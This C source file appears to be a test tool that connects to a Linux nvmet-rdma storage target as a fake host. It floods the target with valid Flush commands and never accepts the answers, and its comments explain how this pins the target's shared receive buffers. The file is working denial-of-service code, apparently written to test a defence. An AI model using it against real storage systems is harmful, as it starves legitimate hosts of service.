// SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
/*
 * A greedy NVMe over RDMA initiator: it floods an nvmet-rdma target with
 * command capsules and never takes the answers.
 *
 * It connects like a real host (rdma_cm, struct nvme_rdma_cm_req private
 * data, recfmt 0): an admin queue (qid 0) with a Fabrics Connect, a
 * Property Set of CC.EN so that I/O commands pass the target's checks,
 * then -q I/O queues (qid 1..) with their own Connect. With nvmet_rdma
 * use_srq=1 every one of these queues draws its receive buffers from one
 * of the target's shared SRQs (one per completion vector; consecutive
 * queues land on different vectors). Up to here it behaves: one receive
 * buffer per command it waits on.
 *
 * Then it posts -c Flush commands (nsid 1, no data) on every I/O queue
 * and posts no receive buffer for the responses. Why that holds the
 * target's SRQ (drivers/nvme/target/rdma.c, 6.12): every command takes an
 * SRQ WQE; the target executes it and queues its response SEND, which our
 * empty receive queue answers with an RNR NAK, forever (rnr_retry 7, which
 * the target's QP takes from our connect request). Once the target's send
 * queue for the connection is full (hrqsize + 1 WRs, sq_wr_avail), the
 * further commands wait on its rsp_wr_wait_list, each holding its SRQ
 * buffer: nvmet reposts a buffer only when the command's response is
 * queued (nvmet_rdma_queue_response -> nvmet_rdma_post_recv), and these
 * responses wait for send completions that never come. The commands are
 * valid on purpose: a command nvmet_req_init() rejects is answered at
 * once, its buffer reposted, so it holds nothing.
 *
 * A SEND is acknowledged only once the target took an SRQ WQE for it, so
 * the send completions count the buffers our commands got ("accepted");
 * a refused one (empty SRQ, or srx governance over the QP's limit with
 * policy rnr) is RNR-NAKed and retried by our QP without end.
 *
 * usage: nvme_flood -a ADDR [-p PORT] -n SUBNQN [-q IOQUEUES] [-c CMDS]
 *        [-s SETTLE_S] [-W MAX_WAIT_S] [-t SECONDS]
 *
 * Prints "admin cntlid N", per I/O queue "queue QID lqpn N rqpn N" (rqpn:
 * the target's QP, the one governed on the SRQ), then "ready accepted
 * A1 .. total T" once no queue's count moved for SETTLE_S seconds (at most
 * MAX_WAIT_S after the flood was posted), and runs until stdin reaches
 * end of file or SECONDS passed; then "accepted A1 .. total T", "answers
 * N" (responses received during the flood: none are asked for) and
 * "disconnected N" (queues the target dropped: a DISCONNECTED event or
 * failed WRs, e.g. an SRQ governance disconnect), disconnects every queue
 * (waiting for the target's DREP) and exits 0. Exit 2: setup failed
 * (message on stderr).
 */

#include <endian.h>
#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <infiniband/verbs.h>
#include <rdma/rdma_cma.h>

#define MAX_IOQ		16
#define MAX_CMDS	4096
#define CMD_SIZE	64
#define DATA_SIZE	1024		/* struct nvmf_connect_data */
#define RSP_SIZE	16		/* struct nvme_completion */
#define NRSP		4		/* response slots per queue */
#define ADMIN_SQSIZE	31		/* NVME_AQ_DEPTH - 1 */
#define IO_SQSIZE	127
#define IO_HRQSIZE	4		/* the target's send queue: 5 WRs */
#define CM_TIMEOUT_MS	5000

/* include/linux/nvme-rdma.h */
struct cm_req {
	uint16_t recfmt, qid, hrqsize, hsqsize, cntlid;
	uint8_t rsvd[22];
} __attribute__((packed));

struct cm_rej {
	uint16_t recfmt, sts;
} __attribute__((packed));

/* NVMe over Fabrics command fields, by byte offset (include/linux/nvme.h) */
enum {
	OPC = 0, FLAGS = 1, CID = 2, NSID = 4, FCTYPE = 4, DPTR = 24,
	SGL_LEN = DPTR + 8, SGL_TYPE = DPTR + 15,
	CONN_RECFMT = 40, CONN_QID = 42, CONN_SQSIZE = 44, CONN_KATO = 48,
	PROP_ATTRIB = 40, PROP_OFFSET = 44, PROP_VALUE = 48,
};
#define NVME_FABRICS		0x7f
#define FCTYPE_PROP_SET		0x00
#define FCTYPE_CONNECT		0x01
#define NVME_CMD_FLUSH		0x00
#define CMD_SGL_METABUF		0x40	/* flags: PSDT 01b, SGLs */
#define SGL_INLINE		0x01	/* data descriptor, offset */
#define SGL_KEYED		0x40	/* keyed data descriptor, address */
#define REG_CC			0x14
/* CC: EN, IOSQES 6 (64 B), IOCQES 4 (16 B), NVM command set, 4 KiB pages */
#define CC_ENABLE		(1u | 6u << 16 | 4u << 20)

struct queue {
	struct rdma_cm_id	*id;
	struct ibv_cq		*cq;
	int			qid;
	char			*cmds;		/* MAX(ncmds, 2) commands */
	char			*setup;		/* command + connect data */
	char			*rsp;		/* NRSP responses */
	struct ibv_mr		*mr;
	long			posted, accepted, answers;
	int			disconnected;	/* DISCONNECTED event */
	int			wc_error;	/* flushed or failed WRs */
	int			last_slot;	/* of the last answer */
	uint32_t		rqpn;
};

static struct rdma_event_channel *ch;
static struct ibv_pd *pd;
static struct queue q[MAX_IOQ + 1];	/* [0]: admin */
static int nioq = 4, ncmds = 512;
static struct sockaddr_storage dst;
static const char *subnqn;
static char hostnqn[256];
static uint8_t hostid[16];
static uint16_t cntlid = 0xffff;

static void die(const char *what)
{
	fprintf(stderr, "nvme_flood: %s: %s\n", what,
		errno ? strerror(errno) : "failed");
	exit(2);
}

static void dief(const char *what, long v)
{
	fprintf(stderr, "nvme_flood: %s (%ld)\n", what, v);
	exit(2);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void put16(char *c, int off, uint16_t v)
{
	v = htole16(v);
	memcpy(c + off, &v, 2);
}

static void put32(char *c, int off, uint32_t v)
{
	v = htole32(v);
	memcpy(c + off, &v, 4);
}

static void put64(char *c, int off, uint64_t v)
{
	v = htole64(v);
	memcpy(c + off, &v, 8);
}

/*
 * The next CM event, which must be @want on @id. A DISCONNECTED event
 * for another queue is counted and skipped (the flood phase).
 */
static int cm_wait(struct rdma_cm_id *id, enum rdma_cm_event_type want,
		   int timeout_ms)
{
	struct pollfd pfd = { .fd = ch->fd, .events = POLLIN };
	struct rdma_cm_event *ev;
	int i;

	for (;;) {
		if (poll(&pfd, 1, timeout_ms) != 1) {
			fprintf(stderr, "nvme_flood: no %s event\n",
				rdma_event_str(want));
			return -1;
		}
		if (rdma_get_cm_event(ch, &ev))
			die("rdma_get_cm_event");
		if (ev->event == RDMA_CM_EVENT_DISCONNECTED && ev->id != id) {
			for (i = 0; i <= nioq; i++)
				if (q[i].id == ev->id)
					q[i].disconnected = 1;
			rdma_ack_cm_event(ev);
			continue;
		}
		if (ev->id == id && ev->event == want) {
			rdma_ack_cm_event(ev);
			return 0;
		}
		fprintf(stderr, "nvme_flood: event %s (status %d), wanted %s\n",
			rdma_event_str(ev->event), ev->status,
			rdma_event_str(want));
		if (ev->event == RDMA_CM_EVENT_REJECTED &&
		    ev->param.conn.private_data_len >= sizeof(struct cm_rej)) {
			const struct cm_rej *rej = ev->param.conn.private_data;

			fprintf(stderr, "nvme_flood: rejected, NVMe RDMA status %u\n",
				le16toh(rej->sts));
		}
		rdma_ack_cm_event(ev);
		return -1;
	}
}

static void post_recv(struct queue *qu, int slot)
{
	struct ibv_sge sge = {
		.addr = (uintptr_t)qu->rsp + slot * RSP_SIZE,
		.length = RSP_SIZE, .lkey = qu->mr->lkey,
	};
	struct ibv_recv_wr wr = { .wr_id = slot, .sg_list = &sge,
				  .num_sge = 1 }, *bad;

	if (ibv_post_recv(qu->id->qp, &wr, &bad))
		die("post_recv");
}

static void post_cmd(struct queue *qu, char *cmd, uint32_t len)
{
	struct ibv_sge sge = { .addr = (uintptr_t)cmd, .length = len,
			       .lkey = qu->mr->lkey };
	struct ibv_send_wr wr = { .wr_id = 0, .sg_list = &sge, .num_sge = 1,
				  .opcode = IBV_WR_SEND,
				  .send_flags = IBV_SEND_SIGNALED }, *bad;

	if (ibv_post_send(qu->id->qp, &wr, &bad))
		die("post_send");
	qu->posted++;
}

/* Reap @qu's CQ; returns the receive completions seen. */
static int reap(struct queue *qu)
{
	struct ibv_wc wc[64];
	int n, i, recvs = 0;

	while ((n = ibv_poll_cq(qu->cq, 64, wc)) > 0) {
		for (i = 0; i < n; i++) {
			if (wc[i].status != IBV_WC_SUCCESS) {
				/* Flushed after the target dropped us. */
				if (!qu->wc_error)
					fprintf(stderr, "nvme_flood: qid %d: %s\n",
						qu->qid,
						ibv_wc_status_str(wc[i].status));
				qu->wc_error = 1;
				continue;
			}
			if (wc[i].opcode & IBV_WC_RECV) {
				qu->last_slot = wc[i].wr_id;
				recvs++;
				qu->answers++;
			} else {
				qu->accepted++;
			}
		}
	}
	return recvs;
}

/* Wait for the response to the setup command; returns its result. */
static uint32_t wait_answer(struct queue *qu, const char *what)
{
	double end = now() + CM_TIMEOUT_MS / 1000.0;
	uint16_t status;
	uint32_t result;
	char *r;

	while (!reap(qu)) {
		if (now() > end || qu->disconnected || qu->wc_error) {
			fprintf(stderr, "nvme_flood: qid %d: no answer to %s\n",
				qu->qid, what);
			exit(2);
		}
		usleep(1000);
	}
	r = qu->rsp + qu->last_slot * RSP_SIZE;
	memcpy(&result, r, 4);
	memcpy(&status, r + 14, 2);
	status = le16toh(status) >> 1;
	if (status) {
		fprintf(stderr, "nvme_flood: qid %d: %s failed, status %#x\n",
			qu->qid, what, status);
		exit(2);
	}
	qu->answers = 0;
	return le32toh(result);
}

/* rdma_cm connect of queue @qu as NVMe queue qid @qid. */
static void queue_connect(struct queue *qu, int qid)
{
	struct cm_req req = {
		.recfmt = 0, .qid = htole16(qid),
		.hrqsize = htole16(qid ? IO_HRQSIZE : ADMIN_SQSIZE + 1),
		.hsqsize = htole16(qid ? IO_SQSIZE : ADMIN_SQSIZE),
	};
	struct rdma_conn_param param = {
		.private_data = &req, .private_data_len = sizeof(req),
		.responder_resources = 1, .initiator_depth = 1,
		.flow_control = 1, .retry_count = 7,
		/* The target's QP takes this: it retries our RNR NAKs forever. */
		.rnr_retry_count = 7,
	};
	struct ibv_qp_init_attr qa = {
		.qp_type = IBV_QPT_RC,
		.cap = { .max_send_wr = (qid ? ncmds : 0) + 4,
			 .max_recv_wr = NRSP, .max_send_sge = 1,
			 .max_recv_sge = 1 },
	};
	struct ibv_qp_attr attr;
	size_t len;

	qu->qid = qid;
	if (rdma_create_id(ch, &qu->id, qu, RDMA_PS_TCP))
		die("rdma_create_id");
	if (rdma_resolve_addr(qu->id, NULL, (struct sockaddr *)&dst,
			      CM_TIMEOUT_MS) ||
	    cm_wait(qu->id, RDMA_CM_EVENT_ADDR_RESOLVED, CM_TIMEOUT_MS * 2))
		die("resolve address");
	if (rdma_resolve_route(qu->id, CM_TIMEOUT_MS) ||
	    cm_wait(qu->id, RDMA_CM_EVENT_ROUTE_RESOLVED, CM_TIMEOUT_MS * 2))
		die("resolve route");
	if (!pd) {
		pd = ibv_alloc_pd(qu->id->verbs);
		if (!pd)
			die("alloc_pd");
	}
	qu->cq = ibv_create_cq(qu->id->verbs, ncmds + 2 * NRSP + 8, NULL,
			       NULL, 0);
	if (!qu->cq)
		die("create_cq");
	qa.send_cq = qa.recv_cq = qu->cq;
	if (rdma_create_qp(qu->id, pd, &qa))
		die("rdma_create_qp");
	len = (size_t)(ncmds > 2 ? ncmds : 2) * CMD_SIZE + CMD_SIZE +
	      DATA_SIZE + NRSP * RSP_SIZE;
	qu->cmds = calloc(1, len);
	if (!qu->cmds)
		die("calloc");
	qu->setup = qu->cmds + (size_t)(ncmds > 2 ? ncmds : 2) * CMD_SIZE;
	qu->rsp = qu->setup + CMD_SIZE + DATA_SIZE;
	qu->mr = ibv_reg_mr(pd, qu->cmds, len, IBV_ACCESS_LOCAL_WRITE);
	if (!qu->mr)
		die("reg_mr");
	/* The one answer we wait for: the Connect response. */
	post_recv(qu, 0);
	if (rdma_connect(qu->id, &param) ||
	    cm_wait(qu->id, RDMA_CM_EVENT_ESTABLISHED, CM_TIMEOUT_MS * 2))
		die("rdma_connect");
	memset(&attr, 0, sizeof(attr));
	if (ibv_query_qp(qu->id->qp, &attr, IBV_QP_DEST_QPN, &qa))
		die("query_qp");
	qu->rqpn = attr.dest_qp_num;
}

/* Fabrics Connect on queue @qu, connect data inline in the capsule. */
static void nvme_connect(struct queue *qu)
{
	char *c = qu->setup, *d = c + CMD_SIZE;
	uint32_t result;

	memset(c, 0, CMD_SIZE + DATA_SIZE);
	c[OPC] = NVME_FABRICS;
	c[FLAGS] = CMD_SGL_METABUF;
	put16(c, CID, 1);
	c[FCTYPE] = FCTYPE_CONNECT;
	put64(c, DPTR, 0);
	put32(c, SGL_LEN, DATA_SIZE);
	c[SGL_TYPE] = SGL_INLINE;
	put16(c, CONN_RECFMT, 0);
	put16(c, CONN_QID, qu->qid);
	put16(c, CONN_SQSIZE, qu->qid ? IO_SQSIZE : ADMIN_SQSIZE);
	put32(c, CONN_KATO, 0);		/* no keep-alive: we stay silent */
	memcpy(d, hostid, 16);
	put16(d, 16, cntlid);
	snprintf(d + 256, 256, "%s", subnqn);
	snprintf(d + 512, 256, "%s", hostnqn);
	post_cmd(qu, c, CMD_SIZE + DATA_SIZE);
	result = wait_answer(qu, "Connect");
	if (!qu->qid)
		cntlid = result & 0xffff;
}

/* Property Set CC.EN on the admin queue: the controller is enabled. */
static void enable_ctrl(struct queue *qu)
{
	char *c = qu->setup;

	memset(c, 0, CMD_SIZE);
	c[OPC] = NVME_FABRICS;
	c[FLAGS] = CMD_SGL_METABUF;
	put16(c, CID, 2);
	c[FCTYPE] = FCTYPE_PROP_SET;
	c[SGL_TYPE] = SGL_KEYED;	/* length 0: no data */
	c[PROP_ATTRIB] = 0;		/* 4 bytes */
	put32(c, PROP_OFFSET, REG_CC);
	put64(c, PROP_VALUE, CC_ENABLE);
	post_recv(qu, 1);
	post_cmd(qu, c, CMD_SIZE);
	wait_answer(qu, "Property Set CC.EN");
}

/* ncmds Flush commands on I/O queue @qu, no receive buffer for them. */
static void flood(struct queue *qu)
{
	int i;

	for (i = 0; i < ncmds; i++) {
		char *c = qu->cmds + (size_t)i * CMD_SIZE;

		memset(c, 0, CMD_SIZE);
		c[OPC] = NVME_CMD_FLUSH;
		c[FLAGS] = CMD_SGL_METABUF;
		put16(c, CID, 16 + i);
		put32(c, NSID, 1);
		c[SGL_TYPE] = SGL_KEYED;
		post_cmd(qu, c, CMD_SIZE);
	}
}

static void print_counts(const char *tag)
{
	long total = 0;
	int i;

	printf("%s", tag);
	for (i = 1; i <= nioq; i++) {
		printf(" %ld", q[i].accepted);
		total += q[i].accepted;
	}
	printf(" total %ld\n", total);
	fflush(stdout);
}

/* Take CM events (a queue the target dropped) without blocking. */
static void cm_events(void)
{
	struct pollfd pfd = { .fd = ch->fd, .events = POLLIN };
	struct rdma_cm_event *ev;
	int i;

	while (poll(&pfd, 1, 0) == 1 && !rdma_get_cm_event(ch, &ev)) {
		if (ev->event == RDMA_CM_EVENT_DISCONNECTED)
			for (i = 0; i <= nioq; i++)
				if (q[i].id == ev->id)
					q[i].disconnected = 1;
		rdma_ack_cm_event(ev);
	}
}

int main(int argc, char **argv)
{
	double settle = 2, max_wait = 20, secs = 120, t_end, t_post, t_moved;
	const char *addr = NULL, *port = "4420";
	struct pollfd in = { .fd = 0, .events = POLLIN };
	struct addrinfo hints = { .ai_family = AF_UNSPEC }, *res;
	long last_total = -1, total, answers = 0;
	int opt, i, ready = 0, stdin_open = 1, dropped = 0;
	FILE *f;

	while ((opt = getopt(argc, argv, "a:p:n:q:c:s:W:t:")) != -1) {
		switch (opt) {
		case 'a': addr = optarg; break;
		case 'p': port = optarg; break;
		case 'n': subnqn = optarg; break;
		case 'q': nioq = atoi(optarg); break;
		case 'c': ncmds = atoi(optarg); break;
		case 's': settle = atof(optarg); break;
		case 'W': max_wait = atof(optarg); break;
		case 't': secs = atof(optarg); break;
		default: return 2;
		}
	}
	if (!addr || !subnqn || nioq < 1 || nioq > MAX_IOQ || ncmds < 1 ||
	    ncmds > MAX_CMDS) {
		fprintf(stderr, "usage: nvme_flood -a ADDR [-p PORT] -n SUBNQN [-q 1..%d] [-c 1..%d] [-s SETTLE_S] [-W MAX_WAIT_S] [-t SECONDS]\n",
			MAX_IOQ, MAX_CMDS);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (getaddrinfo(addr, port, &hints, &res))
		dief("cannot resolve the target address", 0);
	memcpy(&dst, res->ai_addr, res->ai_addrlen);
	freeaddrinfo(res);
	/* A host identity of our own: a random UUID. */
	f = fopen("/dev/urandom", "r");
	if (!f || fread(hostid, 1, sizeof(hostid), f) != sizeof(hostid))
		die("/dev/urandom");
	fclose(f);
	hostid[6] = (hostid[6] & 0x0f) | 0x40;
	hostid[8] = (hostid[8] & 0x3f) | 0x80;
	snprintf(hostnqn, sizeof(hostnqn),
		 "nqn.2014-08.org.nvmexpress:uuid:%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x",
		 hostid[0], hostid[1], hostid[2], hostid[3], hostid[4],
		 hostid[5], hostid[6], hostid[7], hostid[8], hostid[9],
		 hostid[10], hostid[11], hostid[12], hostid[13], hostid[14],
		 hostid[15]);

	ch = rdma_create_event_channel();
	if (!ch)
		die("rdma_create_event_channel");
	queue_connect(&q[0], 0);
	nvme_connect(&q[0]);
	enable_ctrl(&q[0]);
	printf("admin cntlid %u rqpn %u\n", cntlid, q[0].rqpn);
	for (i = 1; i <= nioq; i++) {
		queue_connect(&q[i], i);
		nvme_connect(&q[i]);
		printf("queue %d lqpn %u rqpn %u\n", i, q[i].id->qp->qp_num,
		       q[i].rqpn);
	}
	for (i = 0; i <= nioq; i++)
		q[i].accepted = 0;
	for (i = 1; i <= nioq; i++)
		flood(&q[i]);
	t_post = t_moved = now();
	t_end = t_post + secs;
	while (now() < t_end) {
		total = 0;
		for (i = 0; i <= nioq; i++) {
			reap(&q[i]);
			total += q[i].accepted;
		}
		cm_events();
		if (total != last_total) {
			last_total = total;
			t_moved = now();
		}
		if (!ready && (now() - t_moved >= settle ||
			       now() - t_post >= max_wait)) {
			ready = 1;
			print_counts("ready accepted");
		}
		if (stdin_open && poll(&in, 1, 10) == 1) {
			char b[256];

			if (read(0, b, sizeof(b)) <= 0)
				stdin_open = 0;
		}
		if (!stdin_open && ready)
			break;
		if (!stdin_open)
			usleep(10000);
	}
	for (i = 0; i <= nioq; i++) {
		reap(&q[i]);
		answers += q[i].answers;
		dropped += q[i].disconnected || q[i].wc_error;
	}
	if (!ready)
		print_counts("ready accepted");
	print_counts("accepted");
	printf("answers %ld\ndisconnected %d\n", answers, dropped);
	fflush(stdout);
	/*
	 * Wait for each DISCONNECTED (the target's DREP): destroying an id
	 * right after its DREQ may cancel the DREQ, and the target would
	 * notice only when its retries to our QP time out.
	 */
	for (i = nioq; i >= 0; i--) {
		if (q[i].disconnected)
			continue;
		if (rdma_disconnect(q[i].id) ||
		    cm_wait(q[i].id, RDMA_CM_EVENT_DISCONNECTED, CM_TIMEOUT_MS))
			fprintf(stderr, "nvme_flood: qid %d: no clean disconnect\n",
				q[i].qid);
	}
	/* The rest (QPs, CQs, ids) goes with the process. */
	_exit(0);
}
